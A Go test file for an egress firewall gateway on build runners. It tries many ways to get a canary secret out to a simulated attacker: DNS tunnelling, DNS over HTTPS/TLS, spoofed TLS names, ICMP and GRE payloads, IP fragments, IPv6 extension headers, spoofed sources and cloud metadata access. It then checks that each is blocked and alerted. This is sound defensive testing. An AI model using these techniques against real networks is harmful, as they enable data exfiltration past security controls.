package test

import (
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"net/netip"
	"strings"
	"testing"
	"time"

	"github.com/miekg/dns"
	"golang.org/x/sys/unix"
)

// secret is what attacks try to get out.
const secret = "canary-7f3a"

// An attempt is one try of an attack: by a runner, over one family, to an
// address of the attacker that only this attack uses.
type attempt struct {
	t       *testing.T
	w       *gatewayWorld
	runner  *runner
	self    netip.Addr // of the runner
	gate    netip.Addr // the gateway, on the runner's side
	evil    netip.Addr // the attacker
	guarded bool       // the daemon serves, and the firewall is in place
}

// An attack is one way past the gate. Without it, it arrives; with it, it does
// not, and leaves one event and its alert.
type attack struct {
	says   string
	by     string // the runner; build1 by default
	family string // 4, 6, or both if empty
	try    func(a *attempt)
	at     string                      // whom it reaches without the firewall: the attacker if empty, a site, a runner; nowhere
	to     func(a *attempt) netip.Addr // the address in the event; the attacker's by default
	expect expectation
}

// An expectation is what the log says of an attack.
type expectation struct {
	via    string // of a conn event; empty is a dns event
	reason string // empty: no event is left
	host   string
	alert  string // empty: none
	pool   string // the runner's by default; "-" is none
	port   float64
	check  func(t *testing.T, a *attempt, e event)
}

// The attempts by kind of packet. None fails the test when it is refused.

// connects says payload on a TCP connection, and reads what comes.
func connects(port uint16, payload string) func(*attempt) {
	return func(a *attempt) { a.tcp(netip.AddrPortFrom(a.evil, port), payload) }
}

func (a *attempt) tcp(to netip.AddrPort, payload string) {
	conn, err := a.runner.dial("tcp", to.String(), a.self.String())
	if err != nil {
		return
	}
	defer conn.Close()
	_, _ = io.WriteString(conn, payload)
	_ = conn.(*net.TCPConn).CloseWrite()
	_, _ = io.Copy(io.Discard, conn)
}

// handshakes begins TLS with a server name; an address is no name, and none is sent.
func (a *attempt) handshakes(to netip.AddrPort, name string) error {
	conn, err := a.runner.dial("tcp", to.String(), a.self.String())
	if err != nil {
		return err
	}
	defer conn.Close()
	if name == "" {
		name = to.Addr().String()
	}
	client := tls.Client(conn, a.w.clientTLS(name))
	if err := client.Handshake(); err != nil {
		return err
	}
	_, _ = io.WriteString(client, "GET /"+secret+" HTTP/1.1\r\nHost: "+name+"\r\nConnection: close\r\n\r\n")
	_, err = io.ReadAll(client)
	return err
}

func claims(name string, port uint16) func(*attempt) {
	return func(a *attempt) { _ = a.handshakes(netip.AddrPortFrom(a.evil, port), name) }
}

// datagram sends UDP by a socket. To the port of QUIC it learns at once that it
// was refused; of the others the kernel tells a client one a second.
func datagram(port uint16, payload string) func(*attempt) {
	return func(a *attempt) {
		conn, err := a.runner.dial("udp", netip.AddrPortFrom(a.evil, port).String(), a.self.String())
		if err != nil {
			a.t.Fatal(err)
		}
		defer conn.Close()
		if _, err := io.WriteString(conn, payload); err != nil {
			a.t.Error(err)
		}
		if !a.guarded || port != 443 {
			return
		}
		begun := time.Now()
		if _, err := conn.Read(make([]byte, 1)); err == nil || !strings.Contains(err.Error(), "refused") || time.Since(begun) > 2*time.Second {
			a.t.Errorf("the client learns of it by %v after %s", err, time.Since(begun))
		}
	}
}

// asks puts a question to the attacker's resolver.
func asks(network, name string) func(*attempt) {
	return func(a *attempt) {
		if !a.guarded {
			a.tcpOrUDP(network)
			return
		}
		reply, err := a.runner.ask(network, netip.AddrPortFrom(a.evil, 53).String(), name, dns.TypeA)
		if err != nil {
			a.t.Errorf("no answer: %v", err)
			return
		}
		if allowed := name == "tls.example"; allowed != (len(reply.Answer) > 0) {
			a.t.Errorf("the answer: %s", reply)
		}
	}
}

// tcpOrUDP sends something to port 53 of the attacker, where nothing answers.
func (a *attempt) tcpOrUDP(network string) {
	conn, err := a.runner.dial(network, netip.AddrPortFrom(a.evil, 53).String(), a.self.String())
	if err == nil {
		_, _ = io.WriteString(conn, secret)
		conn.Close()
	}
}

// raw sends packets made by hand.
func raw(packets func(a *attempt) [][]byte) func(*attempt) {
	return func(a *attempt) {
		for _, p := range packets(a) {
			a.runner.sendRaw(p)
		}
	}
}

// carrying is a packet of a protocol with the secret in it.
func carrying(proto uint8, payload string) func(*attempt) {
	return raw(func(a *attempt) [][]byte { return [][]byte{ipPacket(a.self, a.evil, proto, []byte(payload))} })
}

// extended sends UDP behind an IPv6 extension header.
func extended(next uint8, header []byte) func(*attempt) {
	return raw(func(a *attempt) [][]byte {
		return [][]byte{ipPacket(a.self, a.evil, next, append(header, udpDatagram(a.self, a.evil, 40000, secret)...))}
	})
}

// connectsExtended makes a real connection whose every packet has an extension header.
func connectsExtended(option int) func(*attempt) {
	return func(a *attempt) {
		fd, err := a.runner.dialWithOptions(a.t, option, netip.AddrPortFrom(a.evil, 443))
		defer unix.Close(fd)
		if err == nil {
			_, _ = unix.Write(fd, []byte(secret))
			_, _ = unix.Read(fd, make([]byte, 1))
		}
	}
}

func echoes(kind4, kind6 uint8) func(*attempt) {
	return raw(func(a *attempt) [][]byte {
		proto, kind := uint8(unix.IPPROTO_ICMP), kind4
		if a.evil.Is6() {
			proto, kind = unix.IPPROTO_ICMPV6, kind6
		}
		return [][]byte{ipPacket(a.self, a.evil, proto, icmpMessage(a.self, a.evil, kind, secret))}
	})
}

// pretends sends UDP with another's source address.
func pretends(source func(a *attempt) netip.Addr, port uint16, payload string) func(*attempt) {
	return raw(func(a *attempt) [][]byte {
		src := source(a)
		return [][]byte{ipPacket(src, a.evil, unix.IPPROTO_UDP, udpDatagram(src, a.evil, port, payload))}
	})
}

// question is a DNS question as it is on the wire.
func question(name string) string {
	m := new(dns.Msg)
	m.SetQuestion(name, dns.TypeA)
	wire, err := m.Pack()
	if err != nil {
		panic(err)
	}
	return string(wire)
}

// family picks an address of either family.
func (a *attempt) family(four, six string) netip.Addr {
	if a.self.Is4() {
		return netip.MustParseAddr(four)
	}
	return netip.MustParseAddr(six)
}

func siteAddr(name string) func(*attempt) netip.Addr {
	return func(a *attempt) netip.Addr { s := a.w.sites[name]; return a.family(s.ip, s.ip6) }
}

func runnerAddr(name string) func(*attempt) netip.Addr {
	return func(a *attempt) netip.Addr { r := a.w.runners[name]; return a.family(r.ip, r.ip6) }
}

func gateAddr(a *attempt) netip.Addr { return a.gate }

// toAllowed does something to the address of tls.example, which was asked for.
func toAllowed(do func(a *attempt, to netip.AddrPort)) func(*attempt) {
	return func(a *attempt) {
		to := siteAddr("tls.example")(a)
		if a.guarded {
			if got, err := a.runner.lookup(a.t, "tls.example", a.self.Is6()); err != nil || got != to {
				a.t.Errorf("the answer is %s, %v", got, err)
			}
		}
		do(a, netip.AddrPortFrom(to, 443))
	}
}

// neighbours sends UDP to another runner by way of the gateway.
func neighbours(name string) func(*attempt) {
	return func(a *attempt) {
		to := runnerAddr(name)(a)
		a.runner.space.ip("route", "replace", fmt.Sprintf("%s/%d", to, to.BitLen()), "via", a.gate.String())
		a.runner.sendRaw(ipPacket(a.self, to, unix.IPPROTO_UDP, udpDatagram(a.self, to, 40000, secret)))
	}
}

// gatewayAttacks are the ways that were thought of.
func gatewayAttacks() []attack {
	udp := expectation{via: "udp", reason: "protocol-blocked", alert: "denied-egress"}
	closed := expectation{via: "udp", reason: "special-address", alert: "denied-egress"} // of a private network
	icmp := expectation{via: "icmp", reason: "protocol-blocked", alert: "denied-egress"}
	other := expectation{via: "other", reason: "protocol-blocked", alert: "denied-egress"}
	spoofed := expectation{via: "udp", reason: "no-pool", alert: "denied-egress", pool: "-"}
	direct := func(port float64) expectation {
		return expectation{via: "tcp", reason: "address-mismatch", alert: "direct-ip", port: port}
	}
	foreign := func(reason string) expectation {
		return expectation{reason: reason, alert: "foreign-resolver", check: func(t *testing.T, a *attempt, e event) {
			if e.text("resolver") != a.evil.String() {
				t.Errorf("the resolver wanted is %q", e.text("resolver"))
			}
		}}
	}
	redialled := func(via, host string) expectation {
		return expectation{via: via, reason: "allowed", host: host, alert: "address-mismatch", check: func(t *testing.T, a *attempt, e event) {
			if e["redialled"] != true || e.text("original") != a.evil.String() {
				t.Errorf("%v", e)
			}
		}}
	}
	denied := func(via, reason, host string) expectation {
		return expectation{via: via, reason: reason, host: host, alert: "denied-egress"}
	}
	return []attack{
		{says: "TLS to a direct address on 443, without a name", try: claims("", 443), expect: direct(443)},
		{says: "bytes to a direct address on 443", try: connects(443, secret), expect: direct(443)},
		{says: "SSH to a direct address on 22", try: connects(22, "SSH-2.0-"+secret+"\r\n"), expect: direct(22)},
		{says: "a direct address on any port", try: connects(40000, secret), expect: direct(40000)},
		{says: "a direct address on a port that a name is allowed on", try: connects(5432, secret), expect: direct(5432)},
		{says: "plain HTTP to a direct address", try: func(a *attempt) {
			a.tcp(netip.AddrPortFrom(a.evil, 80), "GET /"+secret+" HTTP/1.1\r\nHost: "+bracketed(a.evil)+"\r\n\r\n")
		}, expect: expectation{via: "http", reason: "address-mismatch", alert: "direct-ip", port: 80}},
		{says: "plain HTTP to a direct address without Host", try: connects(80, "GET /"+secret+" HTTP/1.0\r\n\r\n"),
			expect: expectation{via: "http", reason: "address-mismatch", alert: "direct-ip", port: 80}},
		{says: "an allowed server name at the attacker's address", try: claims("tls.example", 443), expect: redialled("tls", "tls.example")},
		{says: "an allowed Host at the attacker's address", try: connects(80, "GET / HTTP/1.1\r\nHost: web.example\r\nConnection: close\r\n\r\n"), expect: redialled("http", "web.example")},
		{says: "a refused server name at the attacker's address", try: claims("other.example", 443), expect: denied("tls", "not-in-allowlist", "other.example")},
		{says: "a refused server name at an allowed address", at: "tls.example", to: siteAddr("tls.example"),
			try:    toAllowed(func(a *attempt, to netip.AddrPort) { _ = a.handshakes(to, "other.example") }),
			expect: denied("tls", "not-in-allowlist", "other.example")},
		{says: "a server name of another pool at its address", at: "deploy.example", to: siteAddr("deploy.example"),
			try: func(a *attempt) {
				_ = a.handshakes(netip.AddrPortFrom(siteAddr("deploy.example")(a), 443), "deploy.example")
			},
			expect: denied("tls", "not-in-allowlist", "deploy.example")},
		{says: "no server name at an allowed address", at: "tls.example", to: siteAddr("tls.example"),
			try:    toAllowed(func(a *attempt, to netip.AddrPort) { _ = a.handshakes(to, "") }),
			expect: denied("tls", "sni-missing", "tls.example")},
		{says: "no TLS on 443 of an allowed address", at: "tls.example", to: siteAddr("tls.example"),
			try:    toAllowed(func(a *attempt, to netip.AddrPort) { a.tcp(to, secret) }),
			expect: denied("tls", "not-tls", "tls.example")},

		{says: "QUIC", try: datagram(443, "\xc3\x00\x00\x00\x01"+secret), expect: udp},
		{says: "UDP to any port", try: datagram(40000, secret), expect: udp},
		{says: "UDP to the port of NTP", try: datagram(123, secret), expect: udp},
		{says: "DNS of an allowed name at a foreign server over UDP", try: asks("udp", "tls.example"), expect: foreign("allowed")},
		{says: "DNS of an allowed name at a foreign server over TCP", try: asks("tcp", "tls.example"), expect: foreign("allowed")},
		{says: "DNS of a refused name at a foreign server over UDP", try: asks("udp", secret+".udp.example"), expect: foreign("not-in-allowlist")},
		{says: "DNS of a refused name at a foreign server over TCP", try: asks("tcp", secret+".tcp.example"), expect: foreign("not-in-allowlist")},
		{says: "DNS over TLS", try: claims("", 853), expect: expectation{via: "tcp", reason: "resolver-bypass", alert: "foreign-resolver"}},
		{says: "DNS over QUIC", try: datagram(853, secret), expect: expectation{via: "udp", reason: "resolver-bypass", alert: "foreign-resolver"}},
		{says: "DNS over HTTPS, by the resolver's name", try: claims("cloudflare-dns.com", 443),
			expect: expectation{via: "tls", reason: "resolver-bypass", host: "cloudflare-dns.com", alert: "foreign-resolver"}},

		{says: "an ICMP echo with a payload", try: echoes(8, 128), expect: icmp},
		{says: "an ICMP error with a payload", try: echoes(3, 1), expect: icmp},
		{says: "an ICMP message of no known type", try: echoes(200, 200), expect: icmp},
		{says: "GRE", try: carrying(unix.IPPROTO_GRE, "\x00\x00\x08\x00"+secret), expect: other},
		{says: "ESP", try: carrying(unix.IPPROTO_ESP, "\x00\x00\x10\x01\x00\x00\x00\x01"+secret), expect: other},
		{says: "SCTP", try: carrying(unix.IPPROTO_SCTP, "\x9c\x40\x9c\x40\x00\x00\x00\x00\x00\x00\x00\x00\x01\x00\x00\x14"+secret), expect: other},
		{says: "a protocol of no name", try: carrying(253, secret), expect: other},
		{says: "a tunnel of IPv4", try: raw(func(a *attempt) [][]byte {
			inner := ipPacket(netip.MustParseAddr("10.20.0.2"), netip.MustParseAddr(attacker4+"9"), unix.IPPROTO_UDP, []byte(secret+"12345678"))
			return [][]byte{ipPacket(a.self, a.evil, unix.IPPROTO_IPIP, inner)}
		}), expect: other},
		{says: "UDP-Lite", try: carrying(unix.IPPROTO_UDPLITE, "\x9c\x40\x9c\x40\x00\x08\x12\x34"+secret), expect: udp},

		{says: "a fragmented datagram", try: raw(func(a *attempt) [][]byte {
			return fragments(a.self, a.evil, unix.IPPROTO_UDP, udpDatagram(a.self, a.evil, 40000, secret))
		}), expect: udp},
		{says: "the beginning of a connection in fragments", try: raw(func(a *attempt) [][]byte {
			return fragments(a.self, a.evil, unix.IPPROTO_TCP, tcpSegment(a.self, a.evil, 443, tcpSYN, secret))
		})},
		{says: "the last fragment alone", try: raw(func(a *attempt) [][]byte {
			return fragments(a.self, a.evil, unix.IPPROTO_UDP, udpDatagram(a.self, a.evil, 40000, secret))[1:]
		})},
		{says: "the first fragment alone", try: raw(func(a *attempt) [][]byte {
			return fragments(a.self, a.evil, unix.IPPROTO_UDP, udpDatagram(a.self, a.evil, 40000, secret))[:1]
		})},
		{says: "IPv4 options", family: "4", try: raw(func(a *attempt) [][]byte {
			options := []byte{7, 7, 4, 0, 0, 0, 0, 0} // record route, end
			return [][]byte{ip4Packet(a.self, a.evil, unix.IPPROTO_UDP, options, 0, udpDatagram(a.self, a.evil, 40000, secret))}
		}), expect: udp},
		{says: "a hop-by-hop header", family: "6", try: extended(unix.IPPROTO_HOPOPTS, optionsHeader(unix.IPPROTO_UDP)), expect: udp},
		{says: "a destination options header", family: "6", try: extended(unix.IPPROTO_DSTOPTS, optionsHeader(unix.IPPROTO_UDP)), expect: udp},
		{says: "many destination options headers", family: "6", try: raw(func(a *attempt) [][]byte {
			var headers []byte
			for range 20 {
				headers = append(headers, optionsHeader(unix.IPPROTO_DSTOPTS)...)
			}
			headers = append(headers, optionsHeader(unix.IPPROTO_UDP)...)
			return [][]byte{ipPacket(a.self, a.evil, unix.IPPROTO_DSTOPTS, append(headers, udpDatagram(a.self, a.evil, 40000, secret)...))}
		}), expect: other}, // the log holds the first 128 bytes
		{says: "a routing header with nothing left", family: "6", try: extended(unix.IPPROTO_ROUTING, []byte{unix.IPPROTO_UDP, 0, 253, 0, 0, 0, 0, 0}),
			expect: expectation{via: "udp", reason: "protocol-blocked", alert: "denied-egress"}},
		{says: "an atomic fragment", family: "6", try: extended(unix.IPPROTO_FRAGMENT, fragmentHeader(unix.IPPROTO_UDP, 0, 0)), expect: udp},
		{says: "no next header, and bytes behind it", family: "6", try: carrying(unix.IPPROTO_NONE, secret), expect: other},
		{says: "a connection with hop-by-hop headers", family: "6", try: connectsExtended(unix.IPV6_HOPOPTS), expect: direct(443)},
		{says: "a connection with destination options", family: "6", try: connectsExtended(unix.IPV6_DSTOPTS), expect: direct(443)},
		{says: "data in the first segment", try: raw(func(a *attempt) [][]byte {
			return [][]byte{ipPacket(a.self, a.evil, unix.IPPROTO_TCP, tcpSegment(a.self, a.evil, 443, tcpSYN, secret))}
		})},
		{says: "a segment of no connection", try: raw(func(a *attempt) [][]byte {
			return [][]byte{ipPacket(a.self, a.evil, unix.IPPROTO_TCP, tcpSegment(a.self, a.evil, 443, tcpACK|tcpPSH, secret))}
		}), expect: denied("tcp", "protocol-blocked", "")},

		{says: "the source address of another pool", try: pretends(runnerAddr("deploy1"), 40000, secret), expect: spoofed},
		{says: "a question with the source address of another pool", try: pretends(runnerAddr("deploy1"), 53, question("deploy.example.")),
			expect: expectation{via: "udp", reason: "no-pool", alert: "denied-egress", pool: "-"}},
		{says: "the source address of nobody", try: pretends(func(a *attempt) netip.Addr { return a.family("198.51.100.9", "2001:db8:99::9") }, 40000, secret), expect: spoofed},
		{says: "the source address of the gateway", at: "nowhere", try: pretends(gateAddr, 40000, secret)},
		{says: "the source address of the gateway's uplink", at: "nowhere", try: pretends(func(a *attempt) netip.Addr { return a.family(uplink4, uplink6) }, 40000, secret)},

		{says: "the gateway's SSH", at: "gateway", to: gateAddr, try: func(a *attempt) { a.tcp(netip.AddrPortFrom(a.gate, 22), secret) },
			expect: denied("tcp", "special-address", "")},
		{says: "the gateway's SSH by its uplink", at: "gateway", to: func(a *attempt) netip.Addr { return a.family(uplink4, uplink6) },
			try:    func(a *attempt) { a.tcp(netip.AddrPortFrom(a.family(uplink4, uplink6), 22), secret) },
			expect: denied("tcp", "protocol-blocked", "")},
		{says: "the gateway's SSH by the address of another pool", at: "gateway", to: otherGate,
			try:    func(a *attempt) { a.tcp(netip.AddrPortFrom(otherGate(a), 22), secret) },
			expect: denied("tcp", "special-address", "")},
		{says: "the gateway's SSH by its link-local address", family: "6", at: "gateway", to: linkLocalGate,
			try: func(a *attempt) {
				self, patient := a.self, a.runner.patient
				defer func() { a.self, a.runner.patient = self, patient }()
				a.self = netip.IPv6Unspecified()
				if a.guarded {
					a.runner.patient = 200 * time.Millisecond // there is nobody to tell of a refusal
				}
				a.tcp(netip.AddrPortFrom(linkLocalGate(a).WithZone("2"), 22), secret) // eth0, whose name Go may know from another namespace
			},
			expect: expectation{via: "tcp", reason: "no-pool", alert: "denied-egress", pool: "-"}},
		{says: "our admin listener", family: "4", at: "nowhere", to: gateAddr, try: func(a *attempt) { a.tcp(netip.AddrPortFrom(a.gate, 9180), "GET /metrics HTTP/1.0\r\n\r\n") },
			expect: denied("tcp", "special-address", "")},
		{says: "the port that is for redirected connections", at: "nowhere", to: gateAddr, try: func(a *attempt) { a.tcp(netip.AddrPortFrom(a.gate, 3129), secret) },
			expect: denied("tcp", "special-address", "")},
		{says: "UDP to the gateway", at: "gateway udp", to: gateAddr, try: func(a *attempt) {
			a.runner.sendRaw(ipPacket(a.self, a.gate, unix.IPPROTO_UDP, udpDatagram(a.self, a.gate, 40001, secret)))
		}, expect: closed},
		{says: "a neighbour of the same pool, by the gateway", at: "build2", to: runnerAddr("build2"), try: neighbours("build2"), expect: closed},
		{says: "a runner of another pool", at: "deploy1", to: runnerAddr("deploy1"), try: neighbours("deploy1"), expect: closed},
		{says: "the metadata address", family: "4", at: "nowhere", to: func(*attempt) netip.Addr { return netip.MustParseAddr("169.254.169.254") },
			try:    func(a *attempt) { a.tcp(netip.MustParseAddrPort("169.254.169.254:80"), "GET / HTTP/1.0\r\n\r\n") },
			expect: expectation{via: "http", reason: "special-address", alert: "metadata-access"}},
	}
}

// linkLocalGate is the gateway's link-local address on the runner's side.
func linkLocalGate(a *attempt) (found netip.Addr) {
	a.w.gateway.do(func() {
		device, err := net.InterfaceByName(a.runner.bridge)
		if err != nil {
			a.t.Fatal(err)
		}
		addrs, err := device.Addrs()
		if err != nil {
			a.t.Fatal(err)
		}
		for _, addr := range addrs {
			if p := netip.MustParsePrefix(addr.String()); p.Addr().Is6() && p.Addr().IsLinkLocalUnicast() {
				found = p.Addr()
			}
		}
	})
	return found
}

// otherGate is the gateway's address on the side of the other pool.
func otherGate(a *attempt) netip.Addr {
	r := a.w.runners["deploy1"]
	return a.family(r.gate, r.gate6)
}

// attempts makes the attempts of an attack, one for each family, from the nth
// address of the attacker.
func (k attack) attempts(t *testing.T, w *gatewayWorld, n int, guarded bool) []*attempt {
	by := k.by
	if by == "" {
		by = "build1"
	}
	r := w.runners[by]
	var all []*attempt
	for _, pair := range [][2]string{{r.ip, r.gate}, {r.ip6, r.gate6}} {
		self := netip.MustParseAddr(pair[0])
		if k.family == "" || (k.family == "4") == self.Is4() {
			all = append(all, &attempt{t: t, w: w, runner: r, self: self, gate: netip.MustParseAddr(pair[1]), evil: attackerAt(n, self), guarded: guarded})
		}
	}
	return all
}

// arrivals counts what an attack brought to where it goes, once it has settled.
func (a *attempt) arrivals(k attack) int {
	switch {
	case k.at == "":
		return len(a.w.reached.all(0, func(p sniffed) bool { return p.dst == a.evil }))
	case k.at == "nowhere":
		return 0
	case a.w.eyes[k.at] != nil:
		return len(a.w.eyes[k.at].all(0, func(p sniffed) bool { return strings.Contains(string(p.payload), secret) }))
	default:
		return a.w.sites[k.at].accepted()
	}
}

// attackWorld is a world with everything that attacks go for.
func attackWorld(t *testing.T) *gatewayWorld {
	t.Helper()
	w := newGatewayWorld(t, "build1", "build2", "deploy1")
	w.serveEverything()
	w.eyes = map[string]*sniffer{}
	for _, name := range []string{"build2", "deploy1"} {
		w.eyes[name] = newSniffer(w.runners[name].space, "eth0")
	}
	w.gateway.do(func() { w.sites["gateway"] = &site{origins: []*origin{echoOrigin(t, "[::]:22")}} })
	w.gateway.do(func() { w.sites["gateway udp"] = &site{origins: []*origin{udpOrigin(t, "[::]:40001")}} })
	return w
}

// udpOrigin counts datagrams as connections.
func udpOrigin(t *testing.T, addr string) *origin {
	t.Helper()
	conn, err := net.ListenPacket("udp", addr)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { conn.Close() })
	o := &origin{}
	go func() {
		for {
			if _, _, err := conn.ReadFrom(make([]byte, 64)); err != nil {
				return
			}
			o.mu.Lock()
			o.accepted++
			o.mu.Unlock()
		}
	}()
	return o
}

// TestGatewayAttacks tries every way twice: without the firewall, to show that
// it leads somewhere, and with it.
func TestGatewayAttacks(t *testing.T) {
	w := attackWorld(t)
	all := gatewayAttacks()
	for _, r := range w.runners {
		r.resolver(upstream)
	}
	t.Run("without", func(t *testing.T) {
		for n, k := range all {
			if k.at == "nowhere" {
				continue
			}
			for _, a := range k.attempts(t, w, n+1, false) {
				before := a.arrivals(k)
				k.try(a)
				w.settle()
				for until := time.Now().Add(patience / 4); a.arrivals(k) == before; { // whoever counts may be slow
					if time.Now().After(until) {
						t.Errorf("%s, %s: does not arrive, so it shows nothing", k.says, a.self)
						break
					}
					<-time.After(10 * time.Millisecond)
				}
			}
		}
	})
	d := w.start(buildPools, "")
	for _, r := range w.runners {
		r.resolver(r.gate)
	}
	var told []toldOf
	t.Run("with", func(t *testing.T) {
		for n, k := range all {
			for _, a := range k.attempts(t, w, n+1, true) {
				t.Run(a.name(k), func(t *testing.T) {
					a.t = t
					told = append(told, toldOf{a.name(k), k.expect.alert, k.check(a, d)})
				})
			}
		}
	})
	t.Run("alerts", func(t *testing.T) {
		for _, one := range told {
			t.Run(one.says, func(t *testing.T) { one.check(t, d) })
		}
	})
	for _, q := range w.zone.questions() {
		if strings.Contains(q, secret) || strings.HasPrefix(q, "deploy.example ") {
			t.Errorf("the question %s left", q)
		}
	}
}

// name is that of an attempt.
func (a *attempt) name(k attack) string {
	if a.self.Is4() {
		return k.says + ", IPv4"
	}
	return k.says + ", IPv6"
}

// check tries an attack on a guarded world. It gives the event of it, nil if
// none is left.
func (k attack) check(a *attempt, d *daemon) (e event) {
	t := a.t
	t.Helper()
	watch, before, seen := a.w.watch(), a.arrivals(k), len(d.events())
	k.try(a)
	if k.expect.reason != "" {
		e = k.checkEvent(a, d, seen)
	}
	watch.checkNothing(t, k.says)
	if after := a.arrivals(k); after != before {
		t.Errorf("it arrived: %d, then %d", before, after)
	}
	return e
}

// checkEvent waits for the event of an attack.
func (k attack) checkEvent(a *attempt, d *daemon, seen int) event {
	t, x := a.t, k.expect
	t.Helper()
	to := a.evil
	if k.to != nil {
		to = k.to(a)
	}
	e := d.waitSince(seen, "an event of it", func(e event) bool {
		if x.via == "" {
			return e.text("kind") == "dns" && e.text("by") == "client" && e.text("resolver") == to.String()
		}
		at := e.text("ip")
		if e["redialled"] == true {
			at = e.text("original")
		}
		return e.text("kind") == "conn" && at == to.String() && (e.text("phase") == "refused" || e.text("phase") == "open")
	})
	pool := a.runner.pool
	if x.pool != "" {
		pool = strings.TrimPrefix(x.pool, "-")
	}
	if e.text("reason") != x.reason || e.text("via") != x.via || e.text("pool") != pool || e.text("iface") != a.runner.bridge ||
		x.host != "" && e.text("host") != x.host || x.port != 0 && e.number("port") != x.port {
		t.Errorf("the event %v\nwant %+v", e, x)
	}
	if x.check != nil {
		x.check(t, a, e)
	}
	return e
}

// toldOf is an attack that was tried, the alert it is to raise, and its event.
type toldOf struct {
	says, alert string
	event       event
}

// check waits for the alert that has the event for evidence.
func (o toldOf) check(t *testing.T, d *daemon) {
	t.Helper()
	if o.alert == "" || o.event == nil {
		return
	}
	var others []string
	eventually(t, "the alert "+o.alert, func() bool {
		others = nil
		for _, alert := range d.events() {
			if alert.text("kind") != "alert" || !strings.Contains(fmt.Sprint(alert["evidence"]), o.event.text("id")) {
				continue
			}
			if others = append(others, alert.text("alert")); alert.text("alert") == o.alert {
				return true
			}
		}
		return false
	}, func() string { return fmt.Sprintf("for %v there are %v", o.event, others) })
}
